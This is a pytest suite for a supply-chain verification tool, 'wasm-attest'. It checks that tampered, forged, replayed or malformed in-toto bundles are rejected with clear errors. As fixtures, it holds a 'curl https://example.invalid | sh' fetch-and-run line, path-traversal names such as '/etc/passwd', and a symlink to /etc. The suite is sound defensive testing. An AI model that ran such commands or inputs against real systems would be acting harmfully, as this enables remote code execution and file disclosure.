"""`wasm-attest verify` and `wasm-attest sign-layout`, run in-process on a realistic synthetic bundle.

Every run checks what a release job relies on: the exit status (0 verified,
1 failed, 2 usage or configuration), the JSON report's shape, that the failure
names its step, artifact and check, that no traceback is printed, and that
nothing is written into the bundle or the working directory.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest

# A sibling helper module that pytest imports by name; Pants cannot infer it, so BUILD names it.
from wasm_attest_tests.bundles import (
    FINAL_PRODUCTS,
    OWNER_PASSWORD,
    OWNER_PASSWORD_VAR,
    SOURCES,
    Keys,
    build_bundle,
    link_path,
    make_keys,
    provenance_for,
    rewrite_layout,
    rewrite_link,
    sbom_for,
    sha,
    snapshot,
    write_public_key,
)
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat, PublicFormat
from in_toto.models.metadata import Metadata

from wasm_attest import cli
from wasm_attest.bundle_files import ARTIFACT_SIZE_LIMIT, METADATA_SIZE_LIMIT
from wasm_attest.layout import unsigned_layout_json
from wasm_attest.keys import legacy_keyid
from wasm_attest.links import link_file_name
from wasm_attest.provenance import sign_provenance

NOW = "2030-01-01T00:00:00Z"
REPORT_KEYS = {"verified", "layout", "owner_keyids", "expires", "steps", "skipped_inspections", "warnings", "error"}


@dataclass(frozen=True)
class Outcome:
    code: int
    out: str
    err: str

    @property
    def report(self) -> dict:
        return json.loads(self.out)

    @property
    def error(self) -> dict:
        return self.report["error"]


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    return make_keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def owner_pub(keys: Keys) -> Path:
    """The trusted owner key, pinned outside every bundle."""
    return write_public_key(keys.folder / "owner.pub", keys.owner)


@pytest.fixture
def dist(tmp_path: Path, keys: Keys) -> Path:
    return build_bundle(tmp_path / "build", keys)


@pytest.fixture
def workdir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working directory: it must still be empty after every run."""
    folder = tmp_path / "cwd"
    folder.mkdir()
    monkeypatch.chdir(folder)
    return folder


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> Outcome:
    code = cli.main([str(argument) for argument in argv])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    return Outcome(code, captured.out, captured.err)


def verify(capsys, folder: Path, owner_pub: Path, *extra: str, output: str = "json") -> Outcome:
    """Runs `verify` with JSON output and checks that neither the folder nor the working directory changed."""
    before = snapshot(folder) if folder.is_dir() else None
    outcome = run(capsys, "verify", folder, "--owner-key", owner_pub, "--format", output, "--now", NOW, *extra)
    if before is not None:
        assert snapshot(folder) == before, "verification wrote into the bundle"
    assert list(Path.cwd().iterdir()) == [], "verification wrote into the working directory"
    if output == "json":
        assert set(outcome.report) == REPORT_KEYS
        assert outcome.report["verified"] is (outcome.code == 0)
    return outcome


def assert_rejected(outcome: Outcome, *, step: str | None, artifact: str | None, check: str) -> None:
    assert outcome.code == 1, outcome.out + outcome.err
    error = outcome.error
    assert (error["step"], error["artifact"]) == (step, artifact), error
    assert check in error["check"], error
    where = ", ".join(filter(None, (step and f"step '{step}'", artifact and f"artifact '{artifact}'"))) or "the bundle"
    assert f"Verification failed at {where} (check: {error['check']})" in error["message"]
    # The checks that passed before the failure stay in the report, each with what it checked.
    assert all(step["checks"] and all(isinstance(check, str) for check in step["checks"]) for step in outcome.report["steps"])
    if step != "layout" and outcome.report["steps"]:
        assert outcome.report["steps"][0]["name"] == "layout"


def functionary_link(keys: Keys, step: str) -> str:
    return link_file_name(step, keys.functionary.keyid)


# --- a bundle that verifies --------------------------------------------------


def test_a_good_bundle_verifies_with_a_per_step_json_report(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    outcome = verify(capsys, dist, owner_pub)
    assert outcome.code == 0, outcome.out + outcome.err
    report = outcome.report
    assert report["error"] is None
    assert report["owner_keyids"] == [keys.owner.keyid]
    assert report["expires"] == "2099-01-01T00:00:00Z"
    assert [step["name"] for step in report["steps"]] == [
        "layout", "vendor", "build", "embed", "sbom", "package", "app.intoto.jsonl", "app.provenance.sigstore.json", "app.sbom.sigstore.json"
    ]
    assert all(step["checks"] and all(isinstance(check, str) for check in step["checks"]) for step in report["steps"])
    assert report["skipped_inspections"] == ["final-products-on-disk"]
    assert "app.cdx.json metadata.component sha256 equals app.wasm" in report["steps"][4]["checks"]


def test_the_text_report_is_for_people(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    outcome = verify(capsys, dist, owner_pub, output="text")
    assert outcome.code == 0
    assert outcome.out.startswith(f"{dist / 'root.layout'}: verified\n  layout:\n    ok  signed by trusted owner key")
    assert "  build:\n" in outcome.out and "not run: inspection 'final-products-on-disk'" in outcome.out

    (dist / "app.wasm").write_bytes(b"\0asm swapped")
    failed = verify(capsys, dist, owner_pub, output="text")
    assert failed.code == 1 and failed.out == ""
    assert failed.err.startswith("wasm-attest: NOT VERIFIED: Verification failed at step 'package', artifact 'app.wasm'")


def test_several_owner_keys_must_all_have_signed(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    second = write_public_key(keys.folder / "second-owner.pub", keys.intruder)
    outcome = verify(capsys, dist, owner_pub, "--owner-key", str(second))
    assert_rejected(outcome, step="layout", artifact="root.layout", check="layout signature by the trusted owner key")


def test_a_layout_given_on_the_command_line(capsys, workdir: Path, tmp_path: Path, dist: Path, owner_pub: Path) -> None:
    elsewhere = tmp_path / "policy" / "root.layout"
    elsewhere.parent.mkdir()
    (dist / "root.layout").rename(elsewhere)
    assert verify(capsys, dist, owner_pub, "--layout", str(elsewhere)).code == 0


# --- the tamper matrix ---------------------------------------------------------


def test_modified_component(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    (dist / "app.wasm").write_bytes((dist / "app.wasm").read_bytes() + b"\0")
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="app.wasm", check="final product on disk matches the last link")
    assert "It was changed after it was attested" in outcome.error["message"]


def test_modified_sbom_on_disk(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    (dist / "app.cdx.json").write_bytes(sbom_for(b"another component"))
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="app.cdx.json", check="final product on disk matches the last link")


def test_sbom_modified_between_the_sbom_and_package_steps(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    dist = build_bundle(tmp_path / "build", keys, between={"package": {"app.cdx.json": sbom_for(b"another component")}})
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="app.cdx.json", check="expected_materials: DISALLOW *")
    assert "'app.cdx.json' is not consumed by 'MATCH app.cdx.json WITH PRODUCTS FROM sbom'" in outcome.error["message"]


def test_an_sbom_step_that_describes_another_component(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    """Every signature and rule holds; only the SBOM's own statement about the component is wrong."""
    dist = build_bundle(tmp_path / "build", keys, make_sbom=lambda wasm: sbom_for(b"another component"))
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="sbom", artifact="app.cdx.json", check="SBOM metadata.component sha256 equals the component")
    assert f"its metadata.component has sha256 {sha(b'another component')}" in outcome.error["message"]


def test_cargo_lock_replaced_after_the_build(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    evil_lock = SOURCES["Cargo.lock"] + b'\n[[package]]\nname = "evil"\nversion = "6.6.6"\n'
    dist = build_bundle(tmp_path / "build", keys, between={"sbom": {"Cargo.lock": evil_lock}})
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="sbom", artifact="Cargo.lock", check="expected_materials: DISALLOW *")
    assert "'Cargo.lock' is not consumed by 'MATCH Cargo.lock WITH MATERIALS FROM vendor'" in outcome.error["message"]


def test_cargo_lock_replaced_in_the_folder(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    (dist / "Cargo.lock").write_bytes(b"version = 4\n")
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="Cargo.lock", check="final product on disk matches the last link")


def test_cargo_lock_replaced_after_the_build_under_a_looser_layout(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    """A layout whose later steps allow anything (a careless pre-signed one) still cannot ship another lockfile."""
    evil_lock = SOURCES["Cargo.lock"] + b'\n[[package]]\nname = "evil"\nversion = "6.6.6"\n'
    dist = build_bundle(tmp_path / "build", keys, between={"sbom": {"Cargo.lock": evil_lock}})

    def loosen(layout) -> None:
        for step in layout.steps[2:]:
            step.expected_materials = step.expected_products = [["ALLOW", "*"]]

    rewrite_layout(dist, keys.owner, loosen)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="build", artifact="Cargo.lock", check="Cargo.lock in the folder is the one the steps used")
    assert f"step 'build' recorded that it used {sha(SOURCES['Cargo.lock'])}" in outcome.error["message"]


def test_vendored_crate_modified_between_vendor_and_build(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    crate_file = "vendor/serde-1.0.152/src/lib.rs"
    dist = build_bundle(tmp_path / "build", keys, between={"build": {crate_file: b"//! serde, with a backdoor\n"}})
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="build", artifact=crate_file, check="expected_materials: DISALLOW *")
    assert f"'{crate_file}' is not consumed by 'MATCH vendor/* WITH PRODUCTS FROM vendor'" in outcome.error["message"]


def test_link_signed_by_a_key_the_layout_does_not_authorise(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    forged = rewrite_link(dist, "build", keys, lambda link: None, signer=keys.intruder)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="build", artifact=forged.name, check="link signed by an authorised functionary")
    assert keys.intruder.keyid in outcome.error["message"]


def test_missing_link(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    link_path(dist, "sbom", keys.functionary).unlink()
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="sbom", artifact=functionary_link(keys, "sbom"), check="link present")


def test_link_from_an_older_build_replayed(capsys, workdir: Path, tmp_path: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    older = build_bundle(tmp_path / "older", keys, sources={**SOURCES, "src/lib.rs": b"pub fn add(a: u32, b: u32) -> u32 { a - b }\n"})
    name = functionary_link(keys, "build")
    assert (older / name).read_bytes() != (dist / name).read_bytes()
    shutil.copyfile(older / name, dist / name)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="embed", artifact="app.wasm", check="expected_materials: DISALLOW *")
    assert "'app.wasm' is not consumed by 'MATCH app.wasm WITH PRODUCTS FROM build'" in outcome.error["message"]


def test_expired_layout(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    outcome = run(capsys, "verify", dist, "--owner-key", owner_pub, "--format", "json", "--now", "2099-01-01T00:00:01Z")
    assert_rejected(outcome, step="layout", artifact="root.layout", check="layout expiry")
    assert "the layout expired on 2099-01-01T00:00:00Z" in outcome.error["message"]


def test_layout_resigned_by_someone_other_than_the_owner(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    def loosen(layout) -> None:
        for step in layout.steps:
            step.expected_materials = step.expected_products = [["ALLOW", "*"]]

    rewrite_layout(dist, keys.intruder, loosen)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="layout", artifact="root.layout", check="layout signature by the trusted owner key")
    signed_by = outcome.error["message"].split("carries signatures by ", 1)[1].split(". ", 1)[0]
    assert sorted(signed_by.split(", ")) == sorted([keys.intruder.keyid, legacy_keyid(keys.intruder.public_key)])


def test_owner_key_swapped_inside_the_folder(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    """The attacker re-signs the layout and ships their own owner.pub: the trust root comes from the command line."""
    rewrite_layout(dist, keys.intruder)
    swapped = write_public_key(dist / "owner.pub", keys.intruder)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="layout", artifact="root.layout", check="layout signature by the trusted owner key")

    # Pointing --owner-key into the folder is refused outright: the folder would vouch for itself.
    from_the_folder = run(capsys, "verify", dist, "--owner-key", swapped, "--format", "json")
    assert from_the_folder.code == 2
    assert from_the_folder.error["check"] == "configuration"
    assert "is inside the folder being verified" in from_the_folder.error["message"]


def test_an_extra_unexpected_file_among_a_steps_products(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    rewrite_link(dist, "build", keys, lambda link: link.products.update({"libevil.so": {"sha256": sha(b"evil")}}))
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="build", artifact="libevil.so", check="expected_products: DISALLOW *")


def test_an_extra_file_in_the_folder(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    (dist / "install.sh").write_text("curl https://example.invalid | sh\n")
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="install.sh", check="no unattested files")


def test_provenance_whose_subject_does_not_match(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    (dist / "app.intoto.jsonl").write_bytes(sign_provenance(provenance_for(b"another build"), keys.functionary.signer))
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="app.wasm", check="provenance subject digest")


# --- bad input -----------------------------------------------------------------

GARBAGE = {
    "truncated": None,  # the file's first half
    "not-json": b"\x00\xffnot json at all",
    "wrong-shape": b"[1, 2, 3]",
    "bad-envelope": b'{"payload": 1, "payloadType": "application/vnd.in-toto+json", "signatures": [1]}',
    "deeply-nested": b"[" * 200_000,
}


def damage(path: Path, kind: str) -> None:
    content = GARBAGE[kind]
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2] if content is None else content)


@pytest.mark.parametrize("kind", sorted(GARBAGE))
def test_malformed_link(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path, kind: str) -> None:
    damage(link_path(dist, "build", keys.functionary), kind)
    outcome = verify(capsys, dist, owner_pub)
    assert outcome.code == 1
    assert outcome.error["step"] == "build"
    assert outcome.error["artifact"] == functionary_link(keys, "build")
    assert outcome.error["check"] in ("link format", "link signature")


@pytest.mark.parametrize("kind", sorted(GARBAGE))
def test_malformed_layout(capsys, workdir: Path, dist: Path, owner_pub: Path, kind: str) -> None:
    damage(dist / "root.layout", kind)
    outcome = verify(capsys, dist, owner_pub)
    assert outcome.code == 1
    assert (outcome.error["step"], outcome.error["artifact"]) == ("layout", "root.layout")
    assert outcome.error["check"] in ("layout format", "layout signature by the trusted owner key")


@pytest.mark.parametrize("kind", sorted(GARBAGE))
def test_malformed_provenance(capsys, workdir: Path, dist: Path, owner_pub: Path, kind: str) -> None:
    damage(dist / "app.intoto.jsonl", kind)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="package", artifact="app.intoto.jsonl", check="provenance format")


def test_malformed_sbom_signed_as_such(capsys, workdir: Path, tmp_path: Path, keys: Keys, owner_pub: Path) -> None:
    dist = build_bundle(tmp_path / "build", keys, make_sbom=lambda wasm: b'{"bomFormat": "CycloneDX", "metadata": ')
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="sbom", artifact="app.cdx.json", check="SBOM metadata.component sha256 equals the component")


def test_an_empty_folder(capsys, workdir: Path, tmp_path: Path, owner_pub: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    outcome = verify(capsys, empty, owner_pub)
    assert_rejected(outcome, step=None, artifact=None, check="bundle present")
    assert "is empty" in outcome.error["message"]


@pytest.mark.parametrize("name", ["../../outside.txt", "/etc/passwd", "vendor/../../x", "./app.wasm"])
@pytest.mark.parametrize("step", ["build", "package"])
def test_artifact_names_that_leave_the_folder(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path, name: str, step: str) -> None:
    """Rejected as names, before any rule or file lookup: in the last step's link they would name files to hash."""
    rewrite_link(dist, step, keys, lambda link: link.products.update({name: {"sha256": sha(b"x")}}))
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step=step, artifact=name, check="artifact names stay inside the bundle")


def test_a_symlink_pointing_outside_the_folder(capsys, workdir: Path, tmp_path: Path, dist: Path, owner_pub: Path) -> None:
    """Even one whose target has the attested bytes: a link could point anywhere by the time it is read."""
    outside = tmp_path / "outside.wasm"
    outside.write_bytes((dist / "app.wasm").read_bytes())
    (dist / "app.wasm").unlink()
    (dist / "app.wasm").symlink_to(outside)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step=None, artifact="app.wasm", check="regular files only")
    assert f"is a symbolic link (to {outside})" in outcome.error["message"]


def test_a_symlinked_folder_inside_the_bundle(capsys, workdir: Path, tmp_path: Path, dist: Path, owner_pub: Path) -> None:
    (dist / "etc").symlink_to("/etc")
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step=None, artifact="etc", check="regular files only")


def test_a_component_far_larger_than_expected(capsys, workdir: Path, dist: Path, owner_pub: Path) -> None:
    with (dist / "app.wasm").open("r+b") as stream:
        stream.truncate(ARTIFACT_SIZE_LIMIT + 1)  # sparse: nothing is written, and nothing must be read
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step=None, artifact="app.wasm", check="file size limit")
    assert "larger than the 1 GiB" in outcome.error["message"]


def test_a_metadata_file_far_larger_than_expected(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    with link_path(dist, "vendor", keys.functionary).open("r+b") as stream:
        stream.truncate(METADATA_SIZE_LIMIT + 1)
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step=None, artifact=functionary_link(keys, "vendor"), check="file size limit")
    assert "larger than the 16 MiB" in outcome.error["message"]


def test_a_layout_far_larger_than_expected_outside_the_folder(capsys, workdir: Path, tmp_path: Path, dist: Path, owner_pub: Path) -> None:
    layout = tmp_path / "huge.layout"
    with layout.open("wb") as stream:
        stream.truncate(METADATA_SIZE_LIMIT + 1)
    outcome = verify(capsys, dist, owner_pub, "--layout", str(layout))
    assert_rejected(outcome, step="layout", artifact="huge.layout", check="file size limit")


def test_folder_that_does_not_exist_or_is_a_file(capsys, workdir: Path, tmp_path: Path, dist: Path, owner_pub: Path) -> None:
    for folder in (tmp_path / "missing", dist / "app.wasm"):
        outcome = run(capsys, "verify", folder, "--owner-key", owner_pub, "--format", "json")
        assert outcome.code == 2
        assert outcome.error["check"] == "configuration" and str(folder) in outcome.error["message"]
    assert not (tmp_path / "missing").exists()


def pem_files(folder: Path) -> dict[str, bytes]:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    p384 = ec.generate_private_key(ec.SECP384R1())
    files = {
        "rsa.pub": rsa_key.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "p384.pub": p384.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "garbage.pub": b"this is no key\n",
        "rsa.pem": rsa_key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()),
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)
    return files


@pytest.mark.parametrize(
    "name, message",
    [
        ("missing.pub", "does not exist"),
        ("a-directory", "is a folder, not a regular file"),
        ("zero.pub", "is a character device, not a regular file"),  # a link to /dev/zero: never read
        ("rsa.pub", "is an RSA key; wasm-attest accepts Ed25519 or ECDSA P-256 keys only"),
        ("p384.pub", "ECDSA key on curve secp384r1"),
        ("garbage.pub", "is not a PEM public key"),
        ("rsa.pem", "is not a PEM public key"),  # a private key where the public one belongs
    ],
)
def test_owner_keys_that_cannot_be_used(capsys, workdir: Path, tmp_path: Path, dist: Path, name: str, message: str) -> None:
    keys_folder = tmp_path / "keys"
    keys_folder.mkdir()
    (keys_folder / "a-directory").mkdir()
    (keys_folder / "zero.pub").symlink_to("/dev/zero")
    files = pem_files(keys_folder)
    for output in ("json", "text"):
        outcome = run(capsys, "verify", dist, "--owner-key", keys_folder / name, "--format", output)
        assert outcome.code == 2
        text = outcome.out + outcome.err
        assert message in text and str(keys_folder / name) in text and "--owner-key: " in text
        assert b"PRIVATE KEY" not in text.encode() and files["rsa.pem"][40:80].decode() not in text


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["verify"],
        ["verify", "some-folder"],  # no --owner-key: there is no default trust root
        ["frobnicate"],
        ["verify", "FOLDER", "--owner-key", "OWNER", "--format", "xml"],
        ["verify", "FOLDER", "--owner-key", "OWNER", "--now", "tomorrow"],
        ["verify", "FOLDER", "--owner-key", "OWNER", "--now", "2030-01-01T00:00:00"],  # no time zone
        ["verify", "FOLDER", "--owner-key", "OWNER", "--allow-inspection", ""],
        ["verify", "FOLDER", "--owner-key", "OWNER", "--allow-inspection", "'unbalanced"],
        ["verify", "FOLDER", "--owner-key", "OWNER", "--layout", "missing.layout"],
        ["sign-layout", "LAYOUT"],
    ],
)
def test_bad_arguments(capsys, workdir: Path, dist: Path, owner_pub: Path, argv: list[str]) -> None:
    argv = [{"FOLDER": str(dist), "OWNER": str(owner_pub), "LAYOUT": str(dist / "root.layout")}.get(part, part) for part in argv]
    outcome = run(capsys, *argv)
    assert outcome.code == 2
    assert outcome.err or outcome.out


def test_help_and_version(capsys, workdir: Path) -> None:
    assert run(capsys, "--version").code == 0
    helped = run(capsys, "verify", "--help")
    assert helped.code == 0 and "--allow-inspection" in helped.out


# --- inspections ---------------------------------------------------------------


def with_inspection(dist: Path, keys: Keys, command: list[str]) -> None:
    """The owner signs a layout whose inspection runs `command`."""

    def change(layout) -> None:
        layout.inspect[0].run = command

    rewrite_layout(dist, keys.owner, change)


def test_an_inspection_not_on_the_allow_list_is_not_run(capsys, workdir: Path, tmp_path: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    marker = tmp_path / "inspection-ran"
    with_inspection(dist, keys, ["touch", str(marker)])
    for allowed in ([], ["--allow-inspection", "touch"], ["--allow-inspection", f"touch {marker} extra"], ["--allow-inspection", "true"]):
        outcome = verify(capsys, dist, owner_pub, *allowed)
        assert outcome.code == 0
        assert outcome.report["skipped_inspections"] == ["final-products-on-disk"]
        assert not marker.exists()


def test_an_allowed_inspection_runs_in_a_throwaway_folder_with_copies_of_the_artifacts(
    capsys, workdir: Path, tmp_path: Path, dist: Path, keys: Keys, owner_pub: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    record = tmp_path / "record"
    record.mkdir()
    script = f"pwd > {record}/where; ls -A > {record}/listing; env > {record}/env"
    with_inspection(dist, keys, ["sh", "-c", script])
    monkeypatch.setenv("RELEASE_TOKEN", "secret-of-the-release-job")
    outcome = verify(capsys, dist, owner_pub, "--allow-inspection", f"sh -c '{script}'")
    assert outcome.code == 0, outcome.out
    assert outcome.report["skipped_inspections"] == []
    inspection = next(step for step in outcome.report["steps"] if step["name"] == "final-products-on-disk")
    assert inspection["checks"][0].startswith("ran `sh -c")
    where = Path((record / "where").read_text().strip())
    assert where != dist and dist not in where.parents and not where.exists()  # a temporary folder, removed afterwards
    assert (record / "listing").read_text().split() == sorted(FINAL_PRODUCTS)
    environment = (record / "env").read_text()
    assert "RELEASE_TOKEN" not in environment and "PATH=" in environment


def test_an_allowed_inspection_whose_rules_fail(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path) -> None:
    def change(layout) -> None:
        layout.inspect[0].run = ["touch", "unexpected-output"]
        layout.inspect[0].expected_products = [*(["ALLOW", path] for path in FINAL_PRODUCTS), ["DISALLOW", "*"]]

    rewrite_layout(dist, keys.owner, change)
    outcome = verify(capsys, dist, owner_pub, "--allow-inspection", "touch unexpected-output")
    assert_rejected(outcome, step="final-products-on-disk", artifact="unexpected-output", check="expected_products: DISALLOW *")


# --- sign-layout ---------------------------------------------------------------


@pytest.fixture
def unsigned(tmp_path: Path, dist: Path) -> Path:
    """The unsigned layout JSON of the bundle, as `pants generate-layout` would write it for review."""
    path = tmp_path / "policy" / "app.layout.json"
    path.parent.mkdir()
    path.write_bytes(unsigned_layout_json(Metadata.load(str(dist / "root.layout")).get_payload()))
    return path


def sign(capsys, unsigned: Path, key: Path, output: Path, *extra: str) -> Outcome:
    return run(capsys, "sign-layout", unsigned, "--key", key, "--output", output, *extra)


def test_sign_layout_writes_a_layout_that_verifies(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path, unsigned: Path, monkeypatch) -> None:
    monkeypatch.setenv(OWNER_PASSWORD_VAR, OWNER_PASSWORD)
    (dist / "root.layout").unlink()
    outcome = sign(capsys, unsigned, keys.folder / "owner.pem", dist / "root.layout", "--password-env", OWNER_PASSWORD_VAR)
    assert outcome.code == 0, outcome.err
    assert f"with owner key {keys.owner.keyid}: wrote {dist / 'root.layout'} (5 step(s), 1 inspection(s)" in outcome.out
    assert OWNER_PASSWORD not in outcome.out + outcome.err
    assert verify(capsys, dist, owner_pub).code == 0
    assert sorted(path.name for path in dist.iterdir() if path.name.startswith(".")) == []


def test_sign_layout_with_a_functionary_key_does_not_pass_for_the_owner(capsys, workdir: Path, dist: Path, keys: Keys, owner_pub: Path, unsigned: Path) -> None:
    assert sign(capsys, unsigned, keys.folder / "functionary.pem", dist / "root.layout").code == 0
    outcome = verify(capsys, dist, owner_pub)
    assert_rejected(outcome, step="layout", artifact="root.layout", check="layout signature by the trusted owner key")


@pytest.mark.parametrize(
    "key, password, message",
    [
        ("owner.pem", "not-the-password", f"the password in {OWNER_PASSWORD_VAR} is wrong"),
        ("owner.pem", None, "is encrypted and its password is read from the environment variable"),
        ("missing.pem", OWNER_PASSWORD, "does not exist"),
        ("rsa.pem", None, "holds an RSA key"),
        ("rsa.pub", None, "is not a PKCS#8 PEM private key"),
        ("a-directory", None, "is a folder, not a regular file"),
        ("zero.pem", None, "is a character device, not a regular file"),  # a link to /dev/zero: never read
    ],
)
def test_sign_layout_key_errors(capsys, workdir: Path, tmp_path: Path, keys: Keys, unsigned: Path, monkeypatch, key: str, password: str | None, message: str) -> None:
    pem_files(keys.folder)
    (keys.folder / "a-directory").mkdir(exist_ok=True)
    if not (keys.folder / "zero.pem").is_symlink():
        (keys.folder / "zero.pem").symlink_to("/dev/zero")
    if password is None:
        monkeypatch.delenv(OWNER_PASSWORD_VAR, raising=False)
    else:
        monkeypatch.setenv(OWNER_PASSWORD_VAR, password)
    extra = ["--password-env", OWNER_PASSWORD_VAR] if key in ("owner.pem", "missing.pem") else []
    output = tmp_path / "out" / "root.layout"
    output.parent.mkdir()
    outcome = sign(capsys, unsigned, keys.folder / key, output, *extra)
    assert outcome.code == 2
    assert message in outcome.err and "--key: " in outcome.err
    assert "PRIVATE KEY" not in outcome.err and OWNER_PASSWORD not in outcome.err and "not-the-password" not in outcome.err
    assert list(output.parent.iterdir()) == []


def test_sign_layout_refuses_what_is_not_an_unsigned_layout(capsys, workdir: Path, tmp_path: Path, dist: Path, keys: Keys, unsigned: Path) -> None:
    output = tmp_path / "out" / "root.layout"
    output.parent.mkdir()
    document = json.loads(unsigned.read_bytes())
    document["steps"][1]["expected_product"] = document["steps"][1].pop("expected_products")
    expired = json.loads(unsigned.read_bytes())
    expired["expires"] = "2001-01-01T00:00:00Z"
    cases = {
        "truncated.json": (unsigned.read_bytes()[:200], "is not JSON"),
        "signed.json": ((dist / "root.layout").read_bytes(), "is a signed layout already"),
        "misspelt.json": (json.dumps(document).encode(), "steps[1].expected_product is not a field of an in-toto layout"),
        "expired.json": (json.dumps(expired).encode(), "expired on 2001-01-01T00:00:00Z"),
        "a-link.json": (b'{"_type": "link"}', "is not an in-toto layout"),
    }
    for name, (content, message) in cases.items():
        (tmp_path / name).write_bytes(content)
        outcome = sign(capsys, tmp_path / name, keys.folder / "functionary.pem", output)
        assert outcome.code == 1, name
        assert message in outcome.err, (name, outcome.err)
    missing = sign(capsys, tmp_path / "missing.json", keys.folder / "functionary.pem", output)
    assert missing.code == 2 and "does not exist" in missing.err
    no_folder = sign(capsys, unsigned, keys.folder / "functionary.pem", tmp_path / "no" / "such" / "root.layout")
    assert no_folder.code == 2 and "check that its folder exists" in no_folder.err
    assert list(output.parent.iterdir()) == []


def test_the_unsigned_format_is_stable_for_review(dist: Path, unsigned: Path) -> None:
    text = unsigned.read_text()
    assert text.endswith("}\n") and text.startswith('{\n  "_type": "layout",\n  "expires": ')
    assert unsigned_layout_json(Metadata.load(str(dist / "root.layout")).get_payload()) == unsigned.read_bytes()
